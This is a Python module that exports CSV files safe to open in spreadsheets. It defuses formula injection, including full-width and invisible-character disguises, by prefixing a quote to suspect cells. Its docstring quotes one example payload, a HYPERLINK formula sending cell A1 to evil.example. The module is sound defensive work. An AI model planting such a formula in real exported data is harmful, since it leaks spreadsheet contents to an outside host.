"""CSV that is safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs skip
before looking) is read by Excel, LibreOffice and Google Sheets as a formula: a stranger's name such
as `=HYPERLINK("https://evil.example/?"&A1, "click")` would run on the user's machine. Such cells get
a leading `'`, which spreadsheets show as text. Every field is quoted; the file is UTF-8 with a BOM
(so Excel does not read it as cp1252) and CRLF line ends (RFC 4180).

"Starts with" is judged on what the cell looks like, not on its first code point: full-width and
other compatibility forms (`＝`, `﹢`, `－`, `＠`, `⩵`) count once NFKC folds them to ASCII, and
invisible characters and spaces in front (U+200B, U+FEFF, U+00A0, ...) do not hide a formula.
Only the check text is folded: the cell keeps the stranger's text as it was, with the `'` in
front. That is enough because the `'` is then the first character whatever follows it, and a
spreadsheet reads a cell that starts with `'` as text, so the invisible characters do not need to
be removed from the data for the defence to work.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from netinbox.text import clean

# ASCII starts (after NFKC every full-width or small form is one of these), plus U+2212 MINUS
# SIGN, which NFKC keeps (and makes of U+207B SUPERSCRIPT MINUS) and LibreOffice reads as a minus.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\u2212")

# What a reader does not see in front of a formula: Unicode's Default_Ignorable_Code_Point set
# (DerivedCoreProperties.txt: zero-width spaces and joiners, U+FEFF, soft hyphen, variation
# selectors, Hangul fillers, tags, bidi controls) and every format character (category Cf, which
# adds the Arabic prepended marks and U+FFF9-FFFB), as of Unicode 15 (a test checks the Cf part
# against the running Python's Unicode). Removing too much from the check text only adds a harmless
# `'`; removing too little lets a formula through, so the set errs on the wide side.
_INVISIBLE_CLASS = (
    "\u00ad\u034f\u0600-\u0605\u061c\u06dd\u070f\u0890\u0891\u08e2\u115f\u1160\u17b4\u17b5"
    "\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0"
    "\ufff0-\ufffb\U000110bd\U000110cd\U00013430-\U0001343f\U0001bca0-\U0001bca3"
    "\U0001d173-\U0001d17a\U000e0000-\U000e0fff"
)
_INVISIBLE = re.compile(f"[{_INVISIBLE_CLASS}]")
_UNSEEN_RUN = re.compile(f"[\\s{_INVISIBLE_CLASS}]*")  # \s is str.isspace(): NBSP, U+3000, ...

# A first character can compose with what follows it: its combining marks (all of them are kept)
# and, for Hangul syllables and a few Indic vowel signs, the next letter or two.
_CONTEXT = 4


def looks_like_formula(text: str) -> bool:
    """Would a spreadsheet (or a reader) take this cell for a formula?

    The raw text, both orders of folding, and the first visible character folded on its own: NFKC
    can hide a start as well as reveal one ("=" or "＝" followed by U+0338 composes to "≠",
    although a spreadsheet sees the "=").
    """
    first = text[:1]
    if ("!" <= first <= "~" and first not in "=+-@") or (
        first > "~" and unicodedata.category(first)[0] in "LN" and not _INVISIBLE.match(first)
    ):
        # The common case: a visible letter, digit or ASCII sign first. NFKC folds no letter or
        # digit to a formula character (a test checks every one), and what a character composes
        # with its marks is never one of them either (none of them has a decomposition).
        return False
    if not text.isascii():
        text = _start(text)  # only the start counts: a 10 KB note is not folded as a whole
    if text.isascii() or (
        _INVISIBLE.search(text) is None and unicodedata.is_normalized("NFKC", text)
    ):
        # The common cases: nothing to fold and nothing unseen, so the text is its own check text
        # (and a character that NFKC keeps in context, it keeps alone).
        return _starts_with_formula(text)
    visible = _visible(text)
    head = visible.lstrip()[:1]
    return any(
        _starts_with_formula(candidate)
        for candidate in (
            visible,
            _visible(unicodedata.normalize("NFKC", visible)),
            _visible(unicodedata.normalize("NFKC", text)),
            _visible(unicodedata.normalize("NFKC", head)),
        )
    )


def _start(text: str) -> str:
    """What decides how a cell starts: the unseen characters in front, the first visible one with
    every mark that follows it, and a few characters more."""
    end = _UNSEEN_RUN.match(text).end() + 1
    while end < len(text) and (
        unicodedata.category(text[end])[0] == "M" or _INVISIBLE.match(text[end]) is not None
    ):
        end += 1
    return text[: end + _CONTEXT]


def _visible(text: str) -> str:
    return _INVISIBLE.sub("", text)


def _starts_with_formula(text: str) -> bool:
    # A leading tab or CR counts by itself; other spaces are skipped before looking.
    return text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START)


def neutralise(value: Any) -> str:
    """One cell as safe text: lists joined with '; ', None as '', formulas defused.

    Integers are netinbox's own figures (days waiting can be negative when a note is dated in the
    future) and stay numbers: "-3" from int(-3) cannot carry a formula. Text, including text that
    looks like a number, is a stranger's and is always checked.
    """
    if value is None:
        text = ""
    elif isinstance(value, bool):
        text = "yes" if value else "no"
    elif isinstance(value, int):
        return str(value)
    elif isinstance(value, list | tuple):
        text = "; ".join(clean(v) for v in value)
    else:
        text = clean(value)
    if looks_like_formula(text):
        return "'" + text
    return text


def to_csv_bytes(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(column)) for column in columns])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")
